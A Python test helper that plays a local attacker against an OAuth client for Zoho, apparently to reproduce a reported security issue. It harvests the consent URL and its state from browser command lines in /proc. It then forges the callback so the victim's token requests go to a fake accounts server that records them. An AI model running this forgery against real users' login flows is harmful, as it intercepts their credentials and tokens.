"""The attacker of issue #8 item 1: another local user who forges the consent callback.

It listens on 127.0.0.1:PORT as a fake accounts server (answering the token and revoke calls the
way Zoho would, so a victim that trusts it goes on to send more), finds the victim's consent URL
in a browser's argv (/proc/PID/cmdline: readable by every local user), and sends the victim's
listener the callback Zoho would send, with the real `state` and `accounts-server` pointing at
itself. It writes what it saw to OUT (JSON) when STOP exists.

    python tests/forger.py PORT OUT STOP
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

received: list[dict[str, str]] = []


class Trap(BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        received.append({"method": self.command, "path": self.path, "body": body})
        port = self.server.server_address[1]
        answer = {"/oauth/v2/token": {"access_token": "1000.forged.access", "refresh_token": "1000.forged.refresh",
                                      "expires_in": 3600, "api_domain": f"http://127.0.0.1:{port}"},
                  "/oauth/v2/token/revoke": {"status": "success"}}.get(urlsplit(self.path).path, {"data": []})
        data = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _answer


def consent_url_in_argv(stop: Path) -> str | None:
    """The consent URL (with a state) in a browser's command line.

    Only this test's browser (its environment names our STOP file): an attacker takes any, but other
    test runs on the same machine hold consent URLs in their browsers' argv too, and forging theirs
    would leave this victim waiting.
    """
    marker = f"ARGV_BROWSER_STOP={stop}".encode()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if marker not in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
                continue
        except OSError:
            continue
        for arg in args:
            text = arg.decode("utf-8", "replace")
            if "/oauth/v2/auth?" in text and "state=" in text:
                return text
    return None


def main(port: int, out: Path, stop: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", port), Trap)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    report: dict[str, object] = {"forged": None, "listener_status": None}
    deadline = time.monotonic() + 60
    url = None
    while url is None and time.monotonic() < deadline and not stop.exists():
        url = consent_url_in_argv(stop)
        time.sleep(0.02)
    if url:
        query = parse_qs(urlsplit(url).query)
        callback = query["redirect_uri"][0] + "?" + urlencode({
            "state": query["state"][0], "code": "1000.forged.code", "location": "old",
            "accounts-server": f"http://127.0.0.1:{port}"})
        report["forged"] = callback
        try:
            with urllib.request.urlopen(callback, timeout=10) as answer:
                report["listener_status"] = answer.status
        except urllib.error.HTTPError as exc:
            report["listener_status"] = exc.code
        except OSError as exc:
            report["listener_status"] = repr(exc)
    (out.parent / (out.name + ".sent")).touch()
    while not stop.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    server.shutdown()
    report["received"] = received
    out.write_text(json.dumps(report))


if __name__ == "__main__":
    main(int(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]))
